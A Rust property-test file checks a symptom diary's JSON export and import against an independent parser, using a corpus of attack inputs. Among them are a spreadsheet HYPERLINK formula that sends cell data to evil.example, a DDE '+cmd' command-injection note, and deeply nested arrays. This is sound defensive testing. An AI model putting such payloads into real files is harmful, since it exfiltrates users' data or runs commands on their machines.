//! Property tests of the diary file (docs/contract.md §4.2), natively:
//! - any diary, with or without trial settings and Dose entries, survives export → import
//!   unchanged;
//! - the reader agrees with an independent JSON parser (tinyjson) on a corpus of valid and
//!   invalid texts — the attacks of issue 21 and random one-character mutations of exports —
//!   both on "is this JSON" and on the values it reads: a model built from tinyjson's values
//!   and the engine's `Entry::from_raw` gives the same diary and the same number of skipped
//!   entries.
//!
//! Two documented differences:
//! - a lone surrogate escape (`"\ud800"`) follows JSON's grammar but is no Unicode text.
//!   tinyjson refuses the whole text; the diary reader reads it as JSON and skips only the entry
//!   whose date or note holds it (unknown fields holding it are ignored);
//! - tinyjson (2.5) accepts whitespace inside a `\u` escape (`"\u\t0041"`), which RFC 8259 does
//!   not (four hex digits); the reader follows the RFC. Found by the mutation property below.
#![cfg(not(target_arch = "wasm32"))]

use mg_engine::trial::{Date, Diary, Entry};
use mg_rls::diary::file::{decode_text, export, Decoded, FileError, TrialSettings};
use mg_rls::state::Query;
use proptest::prelude::*;
use tinyjson::JsonValue;

fn day(offset: i64) -> Date {
    Date::parse("2000-01-01").unwrap().add_days(offset).unwrap()
}

fn amount() -> impl Strategy<Value = f64> {
    prop_oneof![
        Just(0.0),
        Just(1e-7),
        Just(5000.0),
        (0u32..=5000).prop_map(f64::from),
        0.0..=5000.0f64,
    ]
}

fn note() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::collection::vec(any::<char>(), 0..40).prop_map(|c| c.into_iter().collect()),
        "[\"\\\\/\n\r\t\u{0}\u{2028}a=+@-]{0,20}",
        Just(r#"=HYPERLINK("http://evil.example/?d="&A2,"click")"#.to_owned()),
    ]
}

fn entry() -> impl Strategy<Value = Entry> {
    (
        -40_000i64..40_000,
        proptest::option::of(0u8..=10),
        proptest::option::of(0u8..=10),
        proptest::option::of(amount()),
        any::<bool>(),
        note(),
    )
        .prop_map(|(d, symptoms, sleep, mg, gi, note)| {
            Entry::new(day(d), symptoms, sleep, mg, gi, &note).unwrap()
        })
}

fn trial() -> impl Strategy<Value = Option<TrialSettings>> {
    proptest::option::of(
        (
            -40_000i64..40_000,
            0u32..=28,
            proptest::option::of((amount(), amount())),
        )
            .prop_map(|(d, baseline_days, planned_mg)| TrialSettings {
                start: day(d),
                baseline_days,
                planned_mg,
            }),
    )
}

fn inputs() -> impl Strategy<Value = Option<Query>> {
    proptest::option::of(
        (
            1u32..120,
            prop_oneof![Just("female"), Just("male")],
            "[a-z@:,0-9 &=%]{0,20}",
        )
            .prop_map(|(age, sex, meds)| {
                let mut q = Query::default();
                q.set(mg_rls::state::Param::Age, &age.to_string());
                q.set(mg_rls::state::Param::Sex, sex);
                q.set(mg_rls::state::Param::Meds, &meds);
                q
            }),
    )
}

// ---------------------------------------------------------------------------------------------
// The model: what the contract says a reader makes of the oracle's values.

/// The diary a reader should make of `value` (tinyjson's reading of the text), or the error
/// kind it should give; and how many entries it should skip.
#[derive(Debug, PartialEq)]
enum Expected {
    Read { diary: Diary, skipped: usize },
    NotAnObject,
    NotADiary,
    Version,
    EntriesNotAList,
}

fn model(value: &JsonValue) -> Expected {
    let list = match value {
        JsonValue::Array(list) => list.clone(),
        JsonValue::Object(doc) => {
            if doc.get("format") != Some(&JsonValue::String("mg-rls-diary".into())) {
                return Expected::NotADiary;
            }
            if doc.get("version") != Some(&JsonValue::Number(1.0)) {
                return Expected::Version;
            }
            match doc.get("entries") {
                None | Some(JsonValue::Null) => Vec::new(),
                Some(JsonValue::Array(list)) => list.clone(),
                Some(_) => return Expected::EntriesNotAList,
            }
        }
        _ => return Expected::NotAnObject,
    };
    let mut valid = Vec::new();
    let mut skipped = 0;
    for e in &list {
        match model_entry(e) {
            Some(e) => valid.push(e),
            None => skipped += 1,
        }
    }
    Expected::Read {
        diary: Diary::from_entries(valid).0,
        skipped,
    }
}

fn model_entry(value: &JsonValue) -> Option<Entry> {
    let JsonValue::Object(fields) = value else {
        return None;
    };
    let number = |key: &str| -> Result<Option<f64>, ()> {
        match fields.get(key) {
            None | Some(JsonValue::Null) => Ok(None),
            Some(JsonValue::Number(n)) => Ok(Some(*n)),
            Some(_) => Err(()),
        }
    };
    let text = |key: &str| -> Result<Option<&str>, ()> {
        match fields.get(key) {
            None | Some(JsonValue::Null) => Ok(None),
            Some(JsonValue::String(s)) => Ok(Some(s)),
            Some(_) => Err(()),
        }
    };
    let gi = match fields.get("gi") {
        None | Some(JsonValue::Null) => false,
        Some(JsonValue::Boolean(b)) => *b,
        Some(_) => return None,
    };
    let (symptoms, sleep, mg) = (
        number("symptoms").ok()?,
        number("sleep").ok()?,
        number("magnesium_mg").ok()?,
    );
    let note = text("note").ok()?.unwrap_or("");
    let date = text("date").ok()??;
    Entry::from_raw(date, symptoms, sleep, mg, gi, note).ok()
}

/// What the reader made of it, in the model's terms.
fn ours(result: &Result<Decoded, FileError>) -> Expected {
    match result {
        Ok(d) => Expected::Read {
            diary: d.diary.clone(),
            skipped: d.skipped.len(),
        },
        Err(FileError::NotAnObject { .. }) => Expected::NotAnObject,
        Err(FileError::NotADiary) => Expected::NotADiary,
        Err(FileError::UnknownVersion { .. } | FileError::Newer { .. }) => Expected::Version,
        Err(FileError::EntriesNotAList { .. }) => Expected::EntriesNotAList,
        Err(e) => panic!("not in the model: {e:?}"),
    }
}

/// Whether a string in `text` has a `\u` escape with whitespace among its four hex digits,
/// which tinyjson accepts and JSON does not.
fn lax_unicode_escape(text: &str) -> bool {
    let chars: Vec<char> = text.chars().collect();
    let (mut i, mut in_string) = (0, false);
    while i < chars.len() {
        match (in_string, chars[i]) {
            (false, '"') => in_string = true,
            (true, '"') => in_string = false,
            (true, '\\') => {
                if chars.get(i + 1) == Some(&'u')
                    && chars.iter().skip(i + 2).take(4).any(|c| c.is_whitespace())
                {
                    return true;
                }
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    false
}

#[test]
fn the_oracle_is_lax_about_whitespace_in_a_unicode_escape() {
    assert!(r#"["\u 0041"]"#.parse::<JsonValue>().is_ok());
    assert!(lax_unicode_escape(r#"["\u 0041"]"#) && lax_unicode_escape("[\"\\u\t0000\"]"));
    assert!(!lax_unicode_escape(r#"["\u0041 ", "\\u 1"]"#));
    assert!(matches!(
        decode_text(r#"["\u 0041"]"#),
        Err(FileError::NotJson { .. })
    ));
}

/// Checks one text against the oracle; the texts of the corpus have no repeated keys (the
/// oracle's objects are maps, so it cannot see them).
fn agrees(text: &str) -> Result<(), TestCaseError> {
    let result = decode_text(text);
    match text.parse::<JsonValue>() {
        // The oracle's own slip (see the top of this file): JSON says no.
        Ok(_) if lax_unicode_escape(text) => prop_assert!(
            matches!(result, Err(FileError::NotJson { .. })),
            "{text:?}: {result:?}"
        ),
        Ok(value) => {
            prop_assert!(
                !matches!(result, Err(FileError::NotJson { .. })),
                "the oracle reads {text:?} as JSON, the reader does not: {result:?}"
            );
            prop_assert_eq!(ours(&result), model(&value), "{:?}", text);
        }
        Err(e) if e.to_string().contains("surrogate") => {
            // The one documented difference: JSON by grammar, not text.
            prop_assert!(
                !matches!(result, Err(FileError::NotJson { .. })),
                "{text:?}: {result:?}"
            );
        }
        Err(e) => prop_assert!(
            matches!(result, Err(FileError::NotJson { .. })),
            "the oracle refuses {text:?} ({e}), the reader gives {result:?}"
        ),
    }
    Ok(())
}

/// Texts from issue 21's attacks and the contract's edges, valid and invalid.
fn corpus() -> Vec<String> {
    let doc =
        |entries: &str| format!(r#"{{"format":"mg-rls-diary","version":1,"entries":[{entries}]}}"#);
    let deep = format!("{}0{}", "[".repeat(60), "]".repeat(60));
    let mut texts = vec![
        doc(r#"{"date":"2026-12-01","symptoms":0.07e2}"#),
        doc(r#"{"date":"2026-12-01","symptoms":1e400},{"date":"2026-12-02","symptoms":3}"#),
        doc(r#"{"date":"2026-12-01","note":"\ud800"},{"date":"2026-12-02","symptoms":3}"#),
        doc(r#"{"date":"2026-12-01","note":"\udc00\ud800"}"#),
        doc(r#"{"date":"2026-12-01","note":"\ud83d\ude00"}"#),
        doc(&format!(r#"{{"date":"2026-12-01","x":{deep}}},{{"date":"2026-12-02"}}"#)),
        doc(r#"{"date":"2026-12-01","note":"\u+041"}"#),
        doc(r#"{"date":"2026-12-01","magnesium_mg":1e-7}"#),
        doc(r#"{"date":"2026-12-01","magnesium_mg":-0}"#),
        doc(r#"{"date":"2026-12-01","magnesium_mg":5000.0000001}"#),
        doc(r#"{"date":"2026-12-01","symptoms":"7"},{"date":"2026-12-02","gi":1},{"date":"2026-12-03","note":5}"#),
        doc(r#"{"date":"2026-12-01","symptoms":7.0},{"date":"2026-12-02","sleep":1E1},{"date":"2026-12-03","sleep":10.5}"#),
        doc(r#"{"date":"2026-12-01"},{"date":"2026-12-01","symptoms":2}"#),
        doc(r#"[],null,true,"2026-12-01",7"#),
        doc(r#"{"date":"2026-12-01","note":"=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")"}"#),
        doc(r#"{"date":"2026-12-01","note":"+cmd|' /C calc'!A0"},{"date":"2026-12-02","note":"@SUM(A1)"}"#),
        r#"{"format":"mg-rls-diary","version":1,"entries":{"a":{"date":"2026-12-01"}}}"#.into(),
        r#"{"format":"mg-rls-diary","version":1,"entries":"2026-12-01"}"#.into(),
        r#"{"format":"mg-rls-diary","version":1,"entries":null}"#.into(),
        r#"{"format":"mg-rls-diary","version":1}"#.into(),
        r#"{"format":"mg-rls-diary","version":0,"entries":[]}"#.into(),
        r#"{"format":"mg-rls-diary","version":1.5,"entries":[]}"#.into(),
        r#"{"format":"mg-rls-diary","version":"1","entries":[]}"#.into(),
        r#"{"format":"mg-rls-diary","version":2,"entries":[]}"#.into(),
        r#"{"format":"mg-rls-diary","entries":[]}"#.into(),
        r#"{"format":"other","version":1,"entries":[]}"#.into(),
        r#"{"version":1,"entries":[]}"#.into(),
        r#"[{"date":"2026-12-01","symptoms":5},"junk"]"#.into(),
        r#"[]"#.into(),
        r#""mg-rls-diary""#.into(),
        "42".into(),
        "null".into(),
        "".into(),
        "   ".into(),
        "{".into(),
        "[1,]".into(),
        r#"{"a":1,}"#.into(),
        "[01]".into(),
        "[.5]".into(),
        "[NaN]".into(),
        "[\"a\tb\"]".into(),
        "[\"\\x\"]".into(),
        "[1] x".into(),
        r#"{"format":"mg-rls-diary","version":1,"entries":[],"trial":{"start":"2026-11-30","baseline_days":4294967295}}"#.into(),
        r#"{"format":"mg-rls-diary","version":1,"entries":[],"inputs":"age=40&view=report"}"#.into(),
    ];
    texts.push(doc(&format!(
        r#"{{"date":"2026-12-01","note":"{}"}}"#,
        "x".repeat(501)
    )));
    texts.push(doc(&format!(
        r#"{{"date":"2026-12-01","note":"{}"}}"#,
        "é".repeat(500)
    )));
    texts
}

#[test]
fn the_reader_agrees_with_an_independent_parser_on_the_corpus() {
    for text in corpus() {
        agrees(&text).unwrap_or_else(|e| panic!("{e}"));
    }
}

#[test]
fn the_attacks_read_as_the_issue_asks() {
    let read = |entries: &str| {
        decode_text(&format!(
            r#"{{"format":"mg-rls-diary","version":1,"entries":[{entries},{{"date":"2026-12-09","symptoms":1}}]}}"#
        ))
        .unwrap()
    };
    // 0.07e2 is 7, and valid.
    let d = read(r#"{"date":"2026-12-01","symptoms":0.07e2}"#);
    assert_eq!(d.diary.entries()[0].symptoms(), Some(7));
    // One bad entry never costs the others.
    for bad in [
        r#"{"date":"2026-12-01","symptoms":1e400}"#,
        r#"{"date":"2026-12-01","note":"\ud800"}"#,
        r#"{"date":"2026-12-01","symptoms":true}"#,
    ] {
        let d = read(bad);
        assert_eq!((d.diary.len(), d.skipped.len()), (1, 1), "{bad}");
    }
    let deep = format!("{}0{}", "[".repeat(100_000), "]".repeat(100_000));
    let d = read(&format!(
        r#"{{"date":"2026-12-01","symptoms":4,"x":{{"y":{deep}}}}}"#
    ));
    assert_eq!((d.diary.len(), d.skipped.len()), (2, 0));
    // A tiny amount stays a magnesium day through export and import.
    let d = read(r#"{"date":"2026-12-01","magnesium_mg":1e-7}"#);
    let back = decode_text(&export(&d.diary, None, None)).unwrap();
    assert_eq!(back.diary.entries()[0].magnesium_mg(), Some(1e-7));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn export_then_import_is_the_identity(
        entries in proptest::collection::vec(entry(), 0..40),
        trial in trial(),
        inputs in inputs(),
    ) {
        let diary = Diary::from_entries(entries).0;
        let text = export(&diary, trial, inputs.as_ref());
        let back = decode_text(&text).unwrap();
        prop_assert!(back.skipped.is_empty() && back.problems.is_empty(), "{:?} {:?}", back.skipped, back.problems);
        prop_assert_eq!(&back.diary, &diary);
        prop_assert_eq!(back.trial, trial);
        let expected = inputs.filter(mg_rls::diary::inputs::holds_entries);
        prop_assert_eq!(back.inputs.as_deref(), expected.as_ref());
        // The oracle reads every export, with the same values.
        agrees(&text)?;
    }

    #[test]
    fn one_character_changed_the_reader_still_agrees(
        entries in proptest::collection::vec(entry(), 1..6),
        at in any::<prop::sample::Index>(),
        edit in 0u8..3,
        c in prop_oneof![
            prop::sample::select(vec!['{', '}', '[', ']', '"', ',', ':', '\\', ' ', '0', '1', '9', '-', '+', '.', 'e', 'E', 'n', 't', 'f', 'u', 'x']),
            any::<char>(),
        ],
    ) {
        let text = export(&Diary::from_entries(entries).0, None, None);
        let mut chars: Vec<char> = text.chars().collect();
        let i = at.index(chars.len());
        match edit {
            0 => chars.insert(i, c),
            1 => { chars.remove(i); }
            _ => chars[i] = c,
        }
        let mutated: String = chars.into_iter().collect();
        agrees(&mutated)?;
    }
}
